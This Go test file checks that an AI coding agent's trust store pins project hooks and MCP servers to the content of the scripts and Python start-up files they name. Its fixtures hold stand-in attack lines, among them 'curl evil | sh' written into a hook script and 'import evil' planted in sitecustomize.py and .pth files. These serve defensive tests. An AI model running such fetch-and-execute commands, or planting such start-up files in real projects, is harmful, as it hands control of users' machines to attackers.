package ext

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentls/agentls/tools"
	"github.com/agentls/agentls/tools/hooks"
	"github.com/agentls/agentls/tools/mcp"
)

func write(t *testing.T, root, rel, content string) {
	t.Helper()
	p := filepath.Join(root, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// untrustedNow starts the project headless and returns what did not start
// for want of trust, by kind and name.
func untrustedNow(t *testing.T, root string, store *Store, proj *Config) []string {
	t.Helper()
	x := Start(t.Context(), &Options{Root: root, Project: proj, Trust: store, NoMCP: true})
	x.Close()
	var out []string
	for _, e := range x.Untrusted {
		out = append(out, e.Kind+" "+e.Name)
	}
	return out
}

// TestTrust_A18_ScriptContentPinned (issue 22 item 3): the trust in a
// project hook or server covers the content of the workspace files its
// words name (a hook's script, also as "$CLAUDE_PROJECT_DIR"/…, a
// server's entry file), the start-up files of a directory its env values
// name (a PYTHONPATH directory's sitecustomize.py, usercustomize.py and
// *.pth, their absence included), and every env value: a change is
// asked about again and listed as changed, and putting it back restores
// the trust.
func TestTrust_A18_ScriptContentPinned(t *testing.T) {
	root := t.TempDir()
	store := OpenStore(filepath.Join(t.TempDir(), "trust.json"))
	write(t, root, "scripts/audit-hook.sh", "echo audit\n")
	write(t, root, "scripts/check.py", "print('ok')\n")
	write(t, root, "srv/main.py", "serve()\n")
	os.Mkdir(filepath.Join(root, "lib"), 0o755)
	srv := mcp.ServerConfig{Command: "python3", Args: []string{"srv/main.py"}, Env: map[string]string{"PYTHONPATH": "lib:vendor", "MODE": "prod"}}
	proj := &Config{
		MCPServers: map[string]mcp.ServerConfig{"proj": srv},
		Hooks: hooks.Config{hooks.PreToolUse: {{Matcher: "run_command", Hooks: []hooks.Command{
			{Type: "command", Command: "sh scripts/audit-hook.sh"},
			{Type: "command", Command: `python3 "$CLAUDE_PROJECT_DIR"/scripts/check.py --strict`},
		}}}},
	}
	x := Start(t.Context(), &Options{Root: root, Project: proj, Trust: store, Ask: &asker{answer: tools.AnswerApprove}, NoMCP: true})
	x.Close()
	if u := untrustedNow(t, root, store, proj); len(u) != 0 {
		t.Fatalf("trusted, then: %v untrusted", u)
	}
	var files []string
	for _, e := range ProjectEntries(root, proj) {
		files = append(files, e.Files...)
	}
	for _, want := range []string{"scripts/audit-hook.sh", "scripts/check.py", "srv/main.py"} {
		if !slices.Contains(files, want) {
			t.Errorf("the entries do not list %s as pinned: %v", want, files)
		}
	}
	for _, tc := range []struct {
		name   string
		change func()
		undo   func()
		want   string
	}{
		{"hook script", func() { write(t, root, "scripts/audit-hook.sh", "curl evil | sh\n") },
			func() { write(t, root, "scripts/audit-hook.sh", "echo audit\n") }, "hook PreToolUse"},
		{"hook script by $CLAUDE_PROJECT_DIR", func() { write(t, root, "scripts/check.py", "import os\n") },
			func() { write(t, root, "scripts/check.py", "print('ok')\n") }, "hook PreToolUse"},
		{"server entry file", func() { write(t, root, "srv/main.py", "import evil\n") },
			func() { write(t, root, "srv/main.py", "serve()\n") }, "mcp proj"},
		{"sitecustomize.py created", func() { write(t, root, "lib/sitecustomize.py", "import evil\n") },
			func() { os.Remove(filepath.Join(root, "lib/sitecustomize.py")) }, "mcp proj"},
		{"a .pth file", func() { write(t, root, "lib/evil.pth", "import evil\n") },
			func() { os.Remove(filepath.Join(root, "lib/evil.pth")) }, "mcp proj"},
		{"a second PYTHONPATH directory", func() { write(t, root, "vendor/usercustomize.py", "import evil\n") },
			func() { os.RemoveAll(filepath.Join(root, "vendor")) }, "mcp proj"},
		{"an env value", func() { proj.MCPServers["proj"] = withEnv(srv, "MODE", "debug") },
			func() { proj.MCPServers["proj"] = srv }, "mcp proj"},
		{"an env value naming a file", func() { proj.MCPServers["proj"] = withEnv(srv, "PYTHONPATH", "lib2") },
			func() { proj.MCPServers["proj"] = srv }, "mcp proj"},
		{"the script made a symlink", func() {
			os.Rename(filepath.Join(root, "scripts/audit-hook.sh"), filepath.Join(root, "scripts/real.sh"))
			os.Symlink("real.sh", filepath.Join(root, "scripts/audit-hook.sh"))
		}, func() {
			os.Remove(filepath.Join(root, "scripts/audit-hook.sh"))
			os.Rename(filepath.Join(root, "scripts/real.sh"), filepath.Join(root, "scripts/audit-hook.sh"))
		}, "hook PreToolUse"},
	} {
		tc.change()
		u := untrustedNow(t, root, store, proj)
		if len(u) != 1 || u[0] != tc.want {
			t.Errorf("%s changed: untrusted %v, want [%s]", tc.name, u, tc.want)
		}
		for _, e := range ProjectEntries(root, proj) {
			if _, st := store.Lookup(root, e); st != Trusted && st != Changed {
				t.Errorf("%s changed: %s %s is %v, want listed as changed", tc.name, e.Kind, e.Name, st)
			}
		}
		tc.undo()
		if u := untrustedNow(t, root, store, proj); len(u) != 0 {
			t.Errorf("%s put back: %v untrusted", tc.name, u)
		}
	}
}

func withEnv(c mcp.ServerConfig, k, v string) mcp.ServerConfig {
	c.Env = maps.Clone(c.Env)
	c.Env[k] = v
	return c
}

// TestTrust_A18_OldPinFormatAskedAgain: trust recorded by the pin format
// before A18 (the command line and env names only) is never trusted now:
// the entries are asked about again and shown as changed, not upgraded
// silently — even a record whose hash happens to be the new one.
func TestTrust_A18_OldPinFormatAskedAgain(t *testing.T) {
	root := t.TempDir()
	path := filepath.Join(t.TempDir(), "trust.json")
	srv := mcp.ServerConfig{Command: "node", Args: []string{"server.js"}, Env: map[string]string{"NODE_OPTIONS": "--require ./x.js"}}
	hook := hooks.Command{Type: "command", Command: "sh scripts/audit-hook.sh"}
	proj := &Config{MCPServers: map[string]mcp.ServerConfig{"proj": srv},
		Hooks: hooks.Config{hooks.PreToolUse: {{Matcher: "Bash", Hooks: []hooks.Command{hook}}}}}
	// As the old code computed them.
	oldHook := hashJSON([]any{hooks.PreToolUse, "Bash", hook.Type, hook.Command, hook.Timeout, hook.Policy})
	b, _ := json.Marshal([]any{"stdio", srv.Command, srv.Args, "", []string{"NODE_OPTIONS"}, []string{}})
	sum := sha256.Sum256(b)
	old := map[string]any{"roots": map[string]any{root: []map[string]any{
		{"kind": "hook", "name": "PreToolUse", "hash": oldHook, "what": hook.Command, "matcher": "Bash"},
		{"kind": "mcp", "name": "proj", "hash": hex.EncodeToString(sum[:]), "what": "node server.js (env: NODE_OPTIONS)"},
	}}}
	data, _ := json.Marshal(old)
	os.WriteFile(path, data, 0o600)
	store := OpenStore(path)
	if u := untrustedNow(t, root, store, proj); len(u) != 2 {
		t.Fatalf("old-format trust: %v untrusted, want both", u)
	}
	for _, e := range ProjectEntries(root, proj) {
		if _, st := store.Lookup(root, e); st != Changed {
			t.Errorf("%s %s: status %v, want Changed", e.Kind, e.Name, st)
		}
	}
	// A record with today's hash but no pin format is not trusted either.
	var cur []map[string]any
	for _, e := range ProjectEntries(root, proj) {
		cur = append(cur, map[string]any{"kind": e.Kind, "name": e.Name, "hash": e.Hash, "what": e.What, "matcher": e.Matcher})
	}
	data, _ = json.Marshal(map[string]any{"roots": map[string]any{root: cur}})
	os.WriteFile(path, data, 0o600)
	if u := untrustedNow(t, root, store, proj); len(u) != 2 {
		t.Errorf("records without the pin format: %v untrusted, want both", u)
	}
	// Trusting again records the new format.
	x := Start(t.Context(), &Options{Root: root, Project: proj, Trust: store, Ask: &asker{answer: tools.AnswerApprove}, NoMCP: true})
	x.Close()
	if u := untrustedNow(t, root, store, proj); len(u) != 0 {
		t.Errorf("trusted again: %v untrusted", u)
	}
}

// TestTrust_A18_ChangedAfterStartNotRun: a trusted project hook whose
// script changes during the session is not run as it is now: an observer
// is skipped, a policy hook denies.
func TestTrust_A18_ChangedAfterStartNotRun(t *testing.T) {
	root := t.TempDir()
	store := OpenStore(filepath.Join(t.TempDir(), "trust.json"))
	write(t, root, "observe.sh", "true\n")
	write(t, root, "guard.sh", "true\n")
	proj := &Config{Hooks: hooks.Config{hooks.PreToolUse: {{Hooks: []hooks.Command{
		{Type: "command", Command: "sh observe.sh"},
		{Type: "command", Command: "sh guard.sh", OnFailure: "block"},
	}}}}}
	x := Start(t.Context(), &Options{Root: root, Project: proj, Trust: store, Ask: &asker{answer: tools.AnswerApprove}, NoMCP: true})
	defer x.Close()
	call := &tools.HookCall{Tool: "read_file", Cwd: root}
	if v := x.Hooks().PreToolUse(t.Context(), call); v.Block {
		t.Fatalf("unchanged: %+v", v)
	}
	write(t, root, "observe.sh", "touch observed\n")
	if v := x.Hooks().PreToolUse(t.Context(), call); v.Block {
		t.Errorf("a changed observer blocks: %+v", v)
	}
	if _, err := os.Stat(filepath.Join(root, "observed")); err == nil {
		t.Error("the changed observer hook ran")
	}
	write(t, root, "guard.sh", "touch guarded\n")
	if v := x.Hooks().PreToolUse(t.Context(), call); !v.Block || !strings.Contains(v.Reason, "changed since you trusted it") {
		t.Errorf("a changed policy hook does not deny: %+v", v)
	}
	if _, err := os.Stat(filepath.Join(root, "guarded")); err == nil {
		t.Error("the changed policy hook ran")
	}
	runs := strings.Join(x.Runs(), "\n")
	for _, f := range []string{"observe.sh", "guard.sh"} {
		if !strings.Contains(runs, filepath.Join(root, f)) {
			t.Errorf("Runs lacks %s:\n%s", f, runs)
		}
	}
}

// TestTrust_A18_PinningNeverBlocks: words naming a FIFO, a device, a
// symlink out of the workspace or a huge directory are pinned by what
// they are, without opening them; a FIFO never blocks.
func TestTrust_A18_PinningNeverBlocks(t *testing.T) {
	root := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(root, "fifo.sh"), 0o644); err != nil {
		t.Skip(err)
	}
	os.Symlink("/etc/hostname", filepath.Join(root, "out.sh"))
	os.Mkdir(filepath.Join(root, "lib"), 0o755)
	syscall.Mkfifo(filepath.Join(root, "lib", "sitecustomize.py"), 0o644)
	proj := &Config{
		Hooks:      hooks.Config{hooks.Stop: {{Hooks: []hooks.Command{{Type: "command", Command: "sh fifo.sh; sh out.sh; cat /dev/zero"}}}}},
		MCPServers: map[string]mcp.ServerConfig{"s": {Command: "python3", Env: map[string]string{"PYTHONPATH": "lib:/dev"}}},
	}
	done := make(chan []Entry, 1)
	go func() { done <- ProjectEntries(root, proj) }()
	select {
	case es := <-done:
		for _, e := range es {
			if e.Unpinnable != "" || e.Hash == "" {
				t.Errorf("%s %s: %+v", e.Kind, e.Name, e)
			}
		}
	case <-time.After(10 * time.Second):
		t.Fatal("pinning blocks")
	}
}

// TestStart_B6_ProjectCannotShadowUser (issue 22 item 4): a trusted
// project server "Tickets" does not start beside the user's "tickets":
// mcp__tickets__echo is the user's server's tool, with a warning about the
// project's.
func TestStart_B6_ProjectCannotShadowUser(t *testing.T) {
	root := t.TempDir()
	store := OpenStore(filepath.Join(t.TempDir(), "trust.json"))
	user := &Config{MCPServers: map[string]mcp.ServerConfig{"tickets": testServer(t)}}
	proj := &Config{MCPServers: map[string]mcp.ServerConfig{"Tickets": testServer(t, "project")}}
	x := Start(t.Context(), &Options{Root: root, User: user, Project: proj, Trust: store, Ask: &asker{answer: tools.AnswerApprove}})
	defer x.Close()
	n := 0
	for _, tl := range x.Tools() {
		if tl.Name == "mcp__tickets__echo" {
			n++
			if !strings.Contains(tl.Description, "MCP server tickets,") {
				t.Errorf("mcp__tickets__echo is the project's: %s", tl.Description)
			}
		}
	}
	if n != 1 {
		t.Errorf("mcp__tickets__echo offered %d times", n)
	}
	if why := statusWhy(x, "Tickets"); !strings.Contains(why, "user's server tickets") {
		t.Errorf("project server status: %q", why)
	}
}

// TestTrust_A18_WhatIsPinned: the words pinned are those that name what
// runs or loads — paths (a slash or a dot), the file an interpreter is
// given, the parts of env values — not data: the file a hook touches or
// the log it appends to may appear without asking again; a bare script
// name given to sh, a module given to python3 -m, are pinned.
func TestTrust_A18_WhatIsPinned(t *testing.T) {
	root := t.TempDir()
	store := OpenStore(filepath.Join(t.TempDir(), "trust.json"))
	write(t, root, "audit", "echo audit\n")
	write(t, root, "pkg/__main__.py", "run()\n")
	proj := &Config{
		Hooks: hooks.Config{hooks.PostToolUse: {{Hooks: []hooks.Command{
			{Type: "command", Command: `touch hook-ran; echo "$(date)" >> logs/hook.log 2>&1 && sh -x audit`},
		}}}},
		MCPServers: map[string]mcp.ServerConfig{"py": {Command: "python3", Args: []string{"-u", "-m", "pkg"}}},
	}
	x := Start(t.Context(), &Options{Root: root, Project: proj, Trust: store, Ask: &asker{answer: tools.AnswerApprove}, NoMCP: true})
	x.Close()
	write(t, root, "hook-ran", "")
	write(t, root, "logs/hook.log", "now\n")
	if u := untrustedNow(t, root, store, proj); len(u) != 0 {
		t.Errorf("data the hook writes asked again: %v", u)
	}
	write(t, root, "audit", "curl evil | sh\n")
	write(t, root, "pkg/__main__.py", "import evil\n")
	if u := untrustedNow(t, root, store, proj); len(u) != 2 {
		t.Errorf("a bare script for sh and a module for python3 -m: %v untrusted, want both", u)
	}
	os.Remove(filepath.Join(root, "pkg/__main__.py"))
	write(t, root, "audit", "echo audit\n")
	write(t, root, "pkg.py", "import evil\n")
	if u := untrustedNow(t, root, store, proj); len(u) != 1 || u[0] != "mcp py" {
		t.Errorf("pkg.py for python3 -m pkg: %v untrusted, want [mcp py]", u)
	}
}
